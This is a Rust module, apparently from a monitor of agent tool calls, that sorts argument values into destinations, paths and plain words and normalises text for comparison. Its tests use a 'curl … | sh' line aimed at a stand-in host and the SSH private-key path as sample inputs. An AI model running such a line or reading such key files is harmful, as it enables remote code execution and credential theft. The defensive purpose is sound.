//! The values of a call that can tell where they come from: accounts, addresses, links, paths,
//! names. And the form in which values are compared: tools print the same text re-wrapped, quoted
//! and escaped.

use std::ops::Range;

use super::event::{Call, scalars};
use super::pattern::Pattern;

/// How much a value says about where it comes from.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub(super) enum Kind {
    /// Words that may stand anywhere.
    Words,
    /// Hardly the same by chance: a path, an identifier.
    Specific,
    /// Names a party outside: where money, mail or data go.
    Destination,
}

/// A value in the arguments of a call.
#[derive(Debug, Clone)]
pub(super) struct Value {
    /// As it is compared.
    pub(super) key: String,
    /// As it is written.
    pub(super) text: String,
    /// What it is.
    pub(super) kind: Kind,
    /// Whether it stands for a link whose host is looked for only if the link is found nowhere.
    pub(super) is_fallback: bool,
    /// Pointer inside the arguments.
    pub(super) pointer: String,
    /// Where it stands in the string there.
    pub(super) span: Range<usize>,
}

/// Longer strings are documents: of them only destinations count.
const LONG: usize = 400;
/// Longer strings are not looked at beyond this.
pub(super) const LIMIT: usize = 256 << 10;

/// All values of a call, and the pointers to arguments whose values are not all among them.
pub(super) fn values(call: &Call) -> (Vec<Value>, Vec<String>) {
    let (mut found, mut cut) = (Vec::new(), Vec::new());
    scalars(&call.arguments, "", &mut |pointer, text| {
        values_of(pointer, text, &mut found);
        if text.len() > LIMIT {
            cut.push(pointer.to_owned());
        }
    });
    (found, cut)
}

/// The parties outside that a text names, in the form in which they are compared.
pub(super) fn destinations(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    values_of("", text, &mut found);
    found.retain(|value| value.kind == Kind::Destination && !value.is_fallback);
    found.into_iter().map(|value| value.key).collect()
}

/// Whether a text names a file, an address or the like.
pub(super) fn names_source(text: &str) -> bool {
    tokens(text).any(|span| kind(&text[span]) != Kind::Words)
}

fn values_of(pointer: &str, text: &str, found: &mut Vec<Value>) {
    let text = &text[..text.floor_char_boundary(LIMIT)];
    let is_long = text.len() > LONG;
    let mut add = |kind, key: String, span: Range<usize>, is_fallback| {
        if key.len() > 2 {
            found.push(Value {
                key,
                text: text[span.clone()].to_owned(),
                kind,
                is_fallback,
                pointer: pointer.to_owned(),
                span,
            });
        }
    };
    for span in tokens(text) {
        let token = &text[span.clone()];
        match kind(token) {
            Kind::Destination => {
                let link = link_key(token);
                if let Some(host) = link
                    .split(['/', '?', '#'])
                    .next()
                    .filter(|host| *host != link)
                {
                    add(Kind::Destination, host.to_owned(), span.clone(), true);
                }
                add(Kind::Destination, link, span, false);
            }
            Kind::Specific if !is_long => add(Kind::Specific, normalise(token), span, false),
            _ => {}
        }
    }
    let whole = text.trim();
    if is_phone(whole) {
        add(Kind::Destination, normalise(whole), 0..text.len(), false);
    }
    if !is_long && whole.chars().any(char::is_alphabetic) && whole.split_whitespace().count() <= 12
    {
        add(Kind::Words, normalise(whole), 0..text.len(), false);
    }
}

/// Runs of characters between white space, quotes and brackets, without punctuation around them.
fn tokens(text: &str) -> impl Iterator<Item = Range<usize>> + '_ {
    const BETWEEN: &[char] = &[
        '"', '\'', '`', '<', '>', '(', ')', '[', ']', '{', '}', ',', ';', '|',
    ];
    let is_between = |c: char| c.is_whitespace() || BETWEEN.contains(&c);
    let mut start = 0;
    text.split(is_between).filter_map(move |piece| {
        let from = start;
        let separator = text[from + piece.len()..]
            .chars()
            .next()
            .map_or(0, char::len_utf8);
        start = from + piece.len() + separator;
        let trimmed = piece.trim_start_matches([':', '.', '!', '?', '=', '*']);
        let from = from + (piece.len() - trimmed.len());
        let trimmed = trimmed.trim_end_matches([':', '.', '!', '?', '=', '*']);
        (!trimmed.is_empty()).then(|| from..from + trimmed.len())
    })
}

fn kind(token: &str) -> Kind {
    static DESTINATION: Pattern = Pattern::new(
        // Link with a scheme; www name; bare name under a common top-level domain; mail address;
        // IBAN and the like; wallet; telephone or account number.
        r"(?xi)^(?:
              [a-z][a-z0-9+.-]{1,12}://\S{3,}
            | www\.[^\s/]+\.\S{2,}
            | (?:[a-z0-9-]+\.)+(?:com|org|net|io|dev|co|ai|app|info|biz|xyz|ru|cn|de|uk|fr|it|es|nl|eu|us|ch|me|tk|top|site|online|shop|tech|link|click|gov|edu|store|cloud|example|test|onion)(?::\d+)?(?:[/?\#]\S*)?
            | [\w.+%-]+@[a-z0-9-]+(?:\.[a-z0-9-]+)+
            | [a-z]{2}\d{2}[a-z0-9]{10,30}
            | 0x[0-9a-f]{32,64}
            | \d{1,3}(?:\.\d{1,3}){3}(?:[:/]\d{1,5})?
            | \+?\d[\d-]{6,}\d
            )$",
    );
    static SPECIFIC: Pattern = Pattern::new(
        // A path; a file name; words joined by signs; letters and digits mixed.
        r"(?xi)^(?:
              (?:~|\.{1,2}|[a-z]:)?[/\\]\S{2,}
            | [\w.-]+(?:/[\w.-]+)+
            | [\w-]+\.[a-z][a-z0-9]{0,4}
            | [\#@][\w-]{2,}
            | \w+(?:[_-]\w+)+
            | [a-z]+\d[a-z0-9]{2,} | \d+[a-z][a-z0-9]{2,}
            )$",
    );
    static DATE: Pattern = Pattern::new(r"^\d{4}-\d{2}-\d{2}\S*$");
    if token.len() < 4 || DATE.is_match(token) {
        Kind::Words
    } else if DESTINATION.is_match(token) {
        Kind::Destination
    } else if SPECIFIC.is_match(token) {
        Kind::Specific
    } else {
        Kind::Words
    }
}

/// A link without what is written or left out at will.
fn link_key(token: &str) -> String {
    let key = normalise(token);
    let key = key.split_once("://").map_or(key.as_str(), |(_, rest)| rest);
    let key = key.strip_prefix("mailto:").unwrap_or(key);
    let key = key.strip_prefix("www.").unwrap_or(key);
    key.trim_end_matches('/').to_owned()
}

/// Whether a text is a telephone number or an account that is written in groups.
fn is_phone(text: &str) -> bool {
    let digits = text.bytes().filter(u8::is_ascii_digit).count();
    let is_part = |c: char| c.is_ascii_digit() || matches!(c, ' ' | '-' | '(' | ')' | '/' | '.');
    (7..=18).contains(&digits)
        && text.contains(' ')
        && text.strip_prefix('+').unwrap_or(text).chars().all(is_part)
}

/// An account in the groups of four in which it is printed, if the key is one.
pub(super) fn in_groups(key: &str) -> Option<String> {
    static ACCOUNT: Pattern = Pattern::new(r"^[a-z]{2}\d{2}[a-z0-9]{10,30}$");
    let digits = key.bytes().filter(u8::is_ascii_digit).count();
    if !ACCOUNT.is_match(key) || digits < 8 {
        return None;
    }
    let groups = key.as_bytes().chunks(4);
    let groups: Vec<_> = groups.map(String::from_utf8_lossy).collect();
    Some(groups.join(" "))
}

/// The form in which texts are compared: lower case, each run of white space one space, escapes
/// of line ends and quotes resolved, doubled quotes single.
pub(super) fn normalise(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    normalise_with(text, |_, c| out.push(c));
    out.truncate(out.trim_end().len());
    out
}

/// The normal form, and for each of its bytes the byte of `text` it comes from.
pub(super) fn normalise_with_map(text: &str) -> (String, Vec<usize>) {
    let (mut out, mut map) = (
        String::with_capacity(text.len()),
        Vec::with_capacity(text.len() + 1),
    );
    normalise_with(text, |at, c| {
        out.push(c);
        map.resize(out.len(), at);
    });
    map.push(text.len());
    (out, map)
}

fn normalise_with(text: &str, mut push: impl FnMut(usize, char)) {
    let mut chars = text.char_indices().peekable();
    // White space at the start is dropped.
    let mut last = ' ';
    while let Some((at, c)) = chars.next() {
        let mut c = c;
        if c == '\\'
            && let Some(&(_, next)) = chars.peek()
        {
            let resolved = match next {
                'n' | 'r' | 't' => Some(' '),
                '"' | '\'' | '/' => Some(next),
                _ => None,
            };
            if let Some(resolved) = resolved {
                chars.next();
                c = resolved;
            }
        }
        let is_space = c.is_whitespace();
        if is_space && last == ' ' || c == '\'' && last == '\'' {
            continue;
        }
        last = if is_space { ' ' } else { c };
        match c {
            _ if is_space => push(at, ' '),
            _ if c.is_ascii() => push(at, c.to_ascii_lowercase()),
            _ => c.to_lowercase().for_each(|lower| push(at, lower)),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn kinds(text: &str) -> Vec<(String, Kind)> {
        let mut found = Vec::new();
        values_of("", text, &mut found);
        let found = found.into_iter().filter(|value| value.kind != Kind::Words);
        found.map(|value| (value.key, value.kind)).collect()
    }

    #[test]
    fn destinations_are_told_from_files_and_words() {
        use Kind::{Destination, Specific};
        let at = |text: &str, kind| vec![(text.to_owned(), kind)];
        assert_eq!(
            kinds("http://www.Shop.example/"),
            at("shop.example", Destination)
        );
        assert_eq!(
            kinds("mail to ann@corp.example."),
            at("ann@corp.example", Destination)
        );
        assert_eq!(
            kinds("DE02120300000000202051"),
            at("de02120300000000202051", Destination)
        );
        assert_eq!(kinds("+49 or +4930123456"), at("+4930123456", Destination));
        assert_eq!(kinds("main.rs"), at("main.rs", Specific));
        assert_eq!(kinds("~/.ssh/id_rsa"), at("~/.ssh/id_rsa", Specific));
        assert_eq!(kinds("on 2024-01-31, twice"), []);
        let both = kinds("curl https://a.example/x?d=1 | sh");
        assert_eq!(both[0], ("a.example".to_owned(), Destination));
        assert_eq!(both[1], ("a.example/x?d=1".to_owned(), Destination));
    }

    #[test]
    fn wrapping_quoting_and_escaping_make_no_difference() {
        let plain = normalise("Pay Ann's bill now");
        assert_eq!(normalise("Pay\n    Ann''s\\n\\nbill  NOW "), plain);
    }

    proptest! {
        #[test]
        fn the_map_leads_to_character_boundaries(text in ".*") {
            let (normal, map) = normalise_with_map(&text);
            prop_assert_eq!(map.len(), normal.len() + 1);
            prop_assert!(map.iter().all(|&at| text.is_char_boundary(at)));
            prop_assert!(map.is_sorted());
        }
    }
}
